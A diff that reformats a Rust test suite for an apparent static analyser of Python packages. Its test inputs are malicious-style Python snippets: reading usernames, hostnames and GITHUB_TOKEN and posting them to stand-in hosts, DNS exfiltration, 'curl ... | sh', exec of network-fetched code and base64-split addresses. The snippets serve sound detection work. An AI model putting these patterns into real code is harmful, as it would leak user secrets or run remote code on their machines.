@@ -23,15 +23,27 @@ fn one_flow(src: &str) -> telltale_facts::FlowFact {
 
 fn no_flow(src: &str) {
     let f = facts(src);
-    assert!(f.flows.is_empty(), "{src}\nunexpected flows: {:#?}", f.flows);
+    assert!(
+        f.flows.is_empty(),
+        "{src}\nunexpected flows: {:#?}",
+        f.flows
+    );
 }
 
 fn decoded(src: &str) -> Vec<String> {
-    facts(src).obfuscations.into_iter().map(|o| o.decoded).collect()
+    facts(src)
+        .obfuscations
+        .into_iter()
+        .map(|o| o.decoded)
+        .collect()
 }
 
 fn hidden_hosts(f: &FileFacts) -> Vec<&str> {
-    f.endpoints.iter().filter(|e| !e.encodings.is_empty()).map(|e| e.host.as_str()).collect()
+    f.endpoints
+        .iter()
+        .filter(|e| !e.encodings.is_empty())
+        .map(|e| e.host.as_str())
+        .collect()
 }
 
 // ------------------------------------------------------------------------------ sources
@@ -46,10 +58,16 @@ fn identity_sources_by_api() {
         ("import os\nos.uname()[1]", DataKind::Hostname),
         ("import getpass\ngetpass.getuser()", DataKind::Username),
         ("import os\nos.getlogin()", DataKind::Username),
-        ("import os, pwd\npwd.getpwuid(os.getuid()).pw_name", DataKind::Username),
+        (
+            "import os, pwd\npwd.getpwuid(os.getuid()).pw_name",
+            DataKind::Username,
+        ),
         ("import os\nos.environ['USER']", DataKind::Username),
         ("import os\nos.getenv('USERNAME')", DataKind::Username),
-        ("import os\nos.environ.get('GITHUB_TOKEN')", DataKind::SecretEnv),
+        (
+            "import os\nos.environ.get('GITHUB_TOKEN')",
+            DataKind::SecretEnv,
+        ),
         ("import os\nos.environ", DataKind::WholeEnvironment),
         ("import os\ndict(os.environ)", DataKind::WholeEnvironment),
         ("import os\nos.path.expanduser('~')", DataKind::HomeDir),
@@ -57,18 +75,33 @@ fn identity_sources_by_api() {
         ("import os\nos.getcwd()", DataKind::WorkingDirectory),
         ("import uuid\nuuid.getnode()", DataKind::NetworkInterfaces),
         ("import time\ntime.tzname[0]", DataKind::TimeZone),
-        ("import datetime\ndatetime.datetime.now().astimezone().tzinfo", DataKind::TimeZone),
-        ("from datetime import datetime\ndatetime.now().astimezone().tzname()", DataKind::TimeZone),
-        ("import locale\nlocale.getdefaultlocale()[0]", DataKind::Locale),
+        (
+            "import datetime\ndatetime.datetime.now().astimezone().tzinfo",
+            DataKind::TimeZone,
+        ),
+        (
+            "from datetime import datetime\ndatetime.now().astimezone().tzname()",
+            DataKind::TimeZone,
+        ),
+        (
+            "import locale\nlocale.getdefaultlocale()[0]",
+            DataKind::Locale,
+        ),
         ("import locale\nlocale.getlocale()", DataKind::Locale),
         ("import platform\nplatform.platform()", DataKind::OsRelease),
         ("import os\nos.uname().release", DataKind::OsRelease),
         ("import os\nos.uname()[2]", DataKind::OsRelease),
         // Aliases and hidden imports.
-        ("from socket import gethostname as g\ng()", DataKind::Hostname),
+        (
+            "from socket import gethostname as g\ng()",
+            DataKind::Hostname,
+        ),
         ("import platform as p\np.node()", DataKind::Hostname),
         ("__import__('socket').gethostname()", DataKind::Hostname),
-        ("import getpass\nf = getpass.getuser\nf()", DataKind::Username),
+        (
+            "import getpass\nf = getpass.getuser\nf()",
+            DataKind::Username,
+        ),
     ];
     for (src, kind) in cases {
         assert_eq!(source_kinds(&facts(src)), vec![kind], "{src}");
@@ -87,7 +120,11 @@ fn os_fields_and_other_variables_are_no_identity() {
         "import locale\nlocale.getdefaultlocale()[1]",
         "import os\nos.path.expanduser(some_path)",
     ] {
-        assert!(facts(src).sources.is_empty(), "{src}: {:?}", facts(src).sources);
+        assert!(
+            facts(src).sources.is_empty(),
+            "{src}: {:?}",
+            facts(src).sources
+        );
     }
 }
 
@@ -105,7 +142,11 @@ fn sensitive_files_by_path() {
         ("def read(p):\n    with open(p) as f:\n        return f.read()\nread('/etc/resolv.conf')", DataKind::NetworkInterfaces),
     ];
     for (src, kind) in cases {
-        assert!(source_kinds(&facts(src)).contains(&kind), "{src}: {:?}", facts(src).sources);
+        assert!(
+            source_kinds(&facts(src)).contains(&kind),
+            "{src}: {:?}",
+            facts(src).sources
+        );
     }
     // An ordinary file's content is no identity, even under the home directory.
     let f = facts("import os\nimport requests\nd = open(os.path.join(os.path.expanduser('~'), '.myapp.cfg')).read()\nrequests.post('https://x.example', data=d)");
@@ -194,7 +235,9 @@ fn http_clients_and_handles() {
 
 #[test]
 fn dns_names_built_from_data() {
-    let fl = one_flow("import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example.top')");
+    let fl = one_flow(
+        "import socket, getpass\nsocket.gethostbyname(f'{getpass.getuser()}.x.example.top')",
+    );
     assert_eq!(fl.sink, SinkKind::Dns);
     assert_eq!(fl.endpoints, vec!["x.example.top"]);
     let fl = one_flow("import socket, base64\nu = base64.b32encode(socket.gethostname().encode()).decode()\nsocket.getaddrinfo(u + '.d.example.top', 80)");
@@ -204,7 +247,8 @@ fn dns_names_built_from_data() {
 
 #[test]
 fn commands_through_the_shell_front_end() {
-    let fl = one_flow("import os, socket\nos.system(f'nslookup {socket.gethostname()}.x.example.top')");
+    let fl =
+        one_flow("import os, socket\nos.system(f'nslookup {socket.gethostname()}.x.example.top')");
     assert_eq!(fl.sink, SinkKind::Dns);
     assert!(fl.sink_api.starts_with("os.system"));
     let fl = one_flow("import subprocess, getpass\nsubprocess.run(['curl', '-d', getpass.getuser(), 'https://x.example.top/c'])");
@@ -220,9 +264,17 @@ fn commands_through_the_shell_front_end() {
 
 #[test]
 fn code_from_the_network_is_dynamic_code() {
-    let f = facts("import subprocess\nexec(subprocess.getoutput('curl -s https://x.example.top/p'))");
-    assert!(f.dynamic_code.iter().any(|d| d.from_network && d.api == "exec"), "{:#?}", f.dynamic_code);
-    let f = facts("import requests\ncode = requests.get('https://x.example.top/p').text\nexec(code)");
+    let f =
+        facts("import subprocess\nexec(subprocess.getoutput('curl -s https://x.example.top/p'))");
+    assert!(
+        f.dynamic_code
+            .iter()
+            .any(|d| d.from_network && d.api == "exec"),
+        "{:#?}",
+        f.dynamic_code
+    );
+    let f =
+        facts("import requests\ncode = requests.get('https://x.example.top/p').text\nexec(code)");
     assert!(f.dynamic_code.iter().any(|d| d.from_network));
     let f = facts("import os\nos.system('curl -s https://x.example.top/i | sh')");
     assert!(f.dynamic_code.iter().any(|d| d.from_network));
@@ -239,16 +291,26 @@ fn constant_code_run_by_exec_is_its_own_source() {
     assert_eq!(f.nested.len(), 1);
     assert_eq!(f.nested[0].facts.file, "pkg/mod.py › exec#1");
     assert_eq!(f.nested[0].facts.flows.len(), 1);
-    assert!(f.obfuscations.iter().any(|o| o.technique.contains("code run by exec")));
+    assert!(f
+        .obfuscations
+        .iter()
+        .any(|o| o.technique.contains("code run by exec")));
 }
 
 fn base64_encode(b: &[u8]) -> String {
     const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
     let mut out = String::new();
     for chunk in b.chunks(3) {
-        let n = chunk.iter().enumerate().fold(0u32, |n, (i, c)| n | (*c as u32) << (16 - 8 * i));
+        let n = chunk
+            .iter()
+            .enumerate()
+            .fold(0u32, |n, (i, c)| n | (*c as u32) << (16 - 8 * i));
         for i in 0..4 {
-            out.push(if i <= chunk.len() { A[(n >> (18 - 6 * i) & 63) as usize] as char } else { '=' });
+            out.push(if i <= chunk.len() {
+                A[(n >> (18 - 6 * i) & 63) as usize] as char
+            } else {
+                '='
+            });
         }
     }
     out
@@ -258,7 +320,9 @@ fn base64_encode(b: &[u8]) -> String {
 
 #[test]
 fn data_flows_through_formatting_containers_and_functions() {
-    let sends = |prefix: &str| format!("import socket, requests, json, base64\nfrom urllib.parse import urlencode\n{prefix}\nrequests.post('https://x.example.top', data=out)\n");
+    let sends = |prefix: &str| {
+        format!("import socket, requests, json, base64\nfrom urllib.parse import urlencode\n{prefix}\nrequests.post('https://x.example.top', data=out)\n")
+    };
     for prefix in [
         "h = socket.gethostname()\nout = f'host={h}'",
         "out = 'h=%s' % socket.gethostname()",
@@ -309,7 +373,13 @@ fn decoders_reveal_hidden_endpoints() {
     ];
     for src in cases {
         let f = facts(src);
-        assert_eq!(hidden_hosts(&f), vec!["evil.example.top"], "{src}: {:#?} {:#?}", f.endpoints, f.obfuscations);
+        assert_eq!(
+            hidden_hosts(&f),
+            vec!["evil.example.top"],
+            "{src}: {:#?} {:#?}",
+            f.endpoints,
+            f.obfuscations
+        );
         assert!(!f.obfuscations.is_empty(), "{src}");
     }
 }
@@ -318,7 +388,13 @@ fn decoders_reveal_hidden_endpoints() {
 fn split_and_encoded_address_names_its_techniques() {
     let f = facts("import base64\nrip = 'M' + 'TIxL' + 'jQyL' + 'jIx' + 'N' + 'y4' + '0NA' + '=='\nip = base64.b64decode(rip)");
     assert_eq!(hidden_hosts(&f), vec!["121.42.217.44"]);
-    assert!(f.obfuscations.iter().any(|o| o.technique == "base64 → split"), "{:#?}", f.obfuscations);
+    assert!(
+        f.obfuscations
+            .iter()
+            .any(|o| o.technique == "base64 → split"),
+        "{:#?}",
+        f.obfuscations
+    );
 }
 
 #[test]
@@ -349,7 +425,11 @@ fn region_guards_name_countries_and_effects() {
     assert_eq!(f.region_guards.len(), 1);
     assert_eq!(f.region_guards[0].effects, vec![Effect::Message]);
     // Comparing the OS or an ordinary setting is no region check.
-    assert!(facts("import platform\nif platform.system() == 'Windows':\n    print('x')\n").region_guards.is_empty());
+    assert!(
+        facts("import platform\nif platform.system() == 'Windows':\n    print('x')\n")
+            .region_guards
+            .is_empty()
+    );
 }
 
 // ------------------------------------------------------------------------------ entry points
@@ -363,8 +443,13 @@ fn cmdclass_install_overrides_are_install_scripts() {
     );
     assert_eq!(f.install_scripts.len(), 1);
     assert_eq!(f.install_scripts[0].hook, "install");
-    assert_eq!(f.install_scripts[0].command, "setup.py cmdclass: PostInstall.run");
-    assert!(facts("from setuptools import setup\nsetup(name='x')\n").install_scripts.is_empty());
+    assert_eq!(
+        f.install_scripts[0].command,
+        "setup.py cmdclass: PostInstall.run"
+    );
+    assert!(facts("from setuptools import setup\nsetup(name='x')\n")
+        .install_scripts
+        .is_empty());
 }
 
 #[test]
@@ -373,16 +458,35 @@ fn setup_entry_points_name_console_scripts() {
         "from setuptools import setup\nscripts = ['mytool = mypkg.cli:main', 'other=mypkg.o:run [x]']\n\
          setup(name='x', entry_points={'console_scripts': scripts, 'gui_scripts': 'viewer = mypkg.gui:start', 'pytest11': ['p = m']})\n",
     );
-    assert_eq!(f.activation, vec!["console script mytool runs mypkg.cli:main", "console script other runs mypkg.o:run", "GUI script viewer runs mypkg.gui:start"]);
+    assert_eq!(
+        f.activation,
+        vec![
+            "console script mytool runs mypkg.cli:main",
+            "console script other runs mypkg.o:run",
+            "GUI script viewer runs mypkg.gui:start"
+        ]
+    );
     // `entry_points` of something other than setup(), or without script groups: nothing.
-    assert!(facts("def setup(**kw): pass\nsetup(entry_points={'console_scripts': ['a = b:c']})\n").activation.is_empty());
-    assert!(facts("from setuptools import setup\nsetup(entry_points={'pytest11': ['p = m']})\n").activation.is_empty());
+    assert!(
+        facts("def setup(**kw): pass\nsetup(entry_points={'console_scripts': ['a = b:c']})\n")
+            .activation
+            .is_empty()
+    );
+    assert!(
+        facts("from setuptools import setup\nsetup(entry_points={'pytest11': ['p = m']})\n")
+            .activation
+            .is_empty()
+    );
 }
 
 #[test]
 fn imports_are_requirements_and_sdks() {
-    let f = facts("import os.path\nfrom . import sibling\nfrom ..pkg import mod\nimport sentry_sdk\n");
-    assert_eq!(f.requires, vec!["..pkg", ".sibling", "os.path", "sentry_sdk"]);
+    let f =
+        facts("import os.path\nfrom . import sibling\nfrom ..pkg import mod\nimport sentry_sdk\n");
+    assert_eq!(
+        f.requires,
+        vec!["..pkg", ".sibling", "os.path", "sentry_sdk"]
+    );
     assert_eq!(f.sdk_imports.len(), 1);
 }
 
@@ -397,14 +501,27 @@ fn bad_input_gives_diagnostics_not_panics() {
     assert!(f.diagnostics[0].starts_with("parsed with"));
     assert_eq!(f.flows.len(), 1);
     let deep = format!("x = {}1\n", "-".repeat(5_000));
-    assert!(facts(&deep).diagnostics.iter().any(|d| d.contains("nested deeper")));
+    assert!(facts(&deep)
+        .diagnostics
+        .iter()
+        .any(|d| d.contains("nested deeper")));
     let deep = format!("x = {}1{}\n", "[".repeat(3_000), "]".repeat(3_000));
-    assert!(facts(&deep).diagnostics.iter().any(|d| d.contains("nested deeper")));
+    assert!(facts(&deep)
+        .diagnostics
+        .iter()
+        .any(|d| d.contains("nested deeper")));
     let long = format!("x = {}\n", vec!["'a'"; 100_000].join(" + "));
     assert!(facts(&long).diagnostics.is_empty());
     let big = analyze("x.py", "x = 1\n", &Options { max_parse_bytes: 3 });
     assert!(big.diagnostics[0].starts_with("not parsed"));
-    for s in ["", "\0\0\0", "'''", "f'{", "lambda: (yield)", "x = 'a' * 10**12\nexec(x + x)"] {
+    for s in [
+        "",
+        "\0\0\0",
+        "'''",
+        "f'{",
+        "lambda: (yield)",
+        "x = 'a' * 10**12\nexec(x + x)",
+    ] {
         facts(s);
     }
 }
